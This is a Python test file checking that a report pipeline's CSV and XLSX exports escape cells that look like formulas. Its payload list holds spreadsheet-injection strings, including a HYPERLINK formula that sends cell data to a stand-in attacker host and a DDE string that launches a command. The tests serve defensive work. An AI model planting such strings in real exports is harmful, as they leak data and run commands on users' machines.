"""Cells written to the CSV and XLSX downloads can never run as formulas in a spreadsheet."""

from __future__ import annotations

import csv
import zipfile

from openpyxl import load_workbook

from flows.publish.downloads import write_csvs, write_workbook
from flows.publish.marts import ReportData

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]


def _data() -> ReportData:
    rows = [{"indicator_id": f"x{i}", "name_nb": payload, "value": -1.5}
            for i, payload in enumerate(PAYLOADS)]  # fmt: skip
    return ReportData(marts={"dim_indicator": rows, "town_profile": rows})


def test_csv_cells_that_look_like_formulas_are_written_as_text(tmp_path):
    write_csvs(_data(), tmp_path)
    with (tmp_path / "town_profile.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["name_nb"] for r in rows] == ["'" + p for p in PAYLOADS]
    assert {r["value"] for r in rows} == {"-1.5"}  # numbers stay numbers


def test_xlsx_cells_that_look_like_formulas_are_strings_not_formulas(tmp_path):
    path = tmp_path / "bymonitor.xlsx"
    write_workbook(_data(), path)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) for n in sheets)  # no formula element anywhere
    workbook = load_workbook(path)
    sheet = workbook["town_profile"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == PAYLOADS
    assert {c.data_type for c in cells} == {"s"}
    assert [row[2].value for row in sheet.iter_rows(min_row=2)] == [-1.5] * len(PAYLOADS)
